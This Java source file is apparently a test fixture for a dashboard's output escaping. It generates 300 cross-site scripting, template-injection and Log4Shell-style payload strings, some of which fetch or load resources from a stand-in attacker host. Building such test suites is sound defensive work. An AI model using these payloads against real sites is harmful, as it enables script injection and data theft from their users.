// SPDX-License-Identifier: Apache-2.0
package dev.sonde.dashboard;

import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.NullMarked;

/** Texts that become markup, script or a request wherever text is not kept text. */
@NullMarked
final class Payloads {
  private static final String[] SCRIPTS = {
    "alert(1)",
    "alert`1`",
    "top.alert(1)",
    "fetch('http://evil.invalid/x')",
    "document.title='pwned'",
    "window.pwned=1",
  };

  private static final String[] SHAPES = {
    "<script>%s</script>",
    "</script><script>%s</script>",
    "\"><script>%s</script>",
    "'><script>%s</script>",
    "</td></table><script>%s</script>",
    "</title><script>%s</script>",
    "</textarea><script>%s</script>",
    "<scr<script>ipt>%s</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT><b>%s",
    "<img src=x onerror=%s>",
    "<img src=http://evil.invalid/i.png onerror=%s>",
    "\"><img src=x onerror=%s>",
    "' onmouseover='%s",
    "\" onfocus=\"%s\" autofocus=\"",
    "<svg onload=%s>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<svg><script>%s</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=%s>",
    "<iframe src=\"javascript:%s\"></iframe>",
    "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
    "<object data=\"javascript:%s\"></object>",
    "<embed src=\"javascript:%s\">",
    "<a href=\"javascript:%s\">x</a>",
    "javascript:%s",
    "data:text/html,<script>%s</script>",
    "<form action=\"javascript:%s\"><button>x</button></form>",
    "<base href=\"http://evil.invalid/\"><b>%s",
    "<link rel=stylesheet href=http://evil.invalid/x.css><b>%s",
    "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
    "<style>@import 'http://evil.invalid/%s';</style>",
    "<div style=\"background:url(http://evil.invalid/%s)\">",
    "<details open ontoggle=%s>",
    "<video><source onerror=%s></video>",
    "<body onload=%s>",
    "<input autofocus onfocus=%s>",
    "<template><img src=x onerror=%s></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
    "<!--><img src=x onerror=%s>-->",
    "<![CDATA[<img src=x onerror=%s>]]>",
    "${%s}",
    "#{%s}",
    "{{constructor.constructor('%s')()}}",
    "${jndi:ldap://evil.invalid/%s}",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "&lt;script&gt;%s&lt;/script&gt;",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "\"};%s;//",
    "\u2028%s\u2029",
    "\u202e<img src=x onerror=%s>",
    "data: x\n\nevent: tick\ndata: {\"x\":\"%s\"}\n\n",
  };

  private Payloads() {}

  /** Each shape with each script: 300 texts. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String shape : SHAPES) {
      for (String script : SCRIPTS) {
        all.add(shape.replace("%s", script).replace("%%", "%"));
      }
    }
    return all;
  }
}
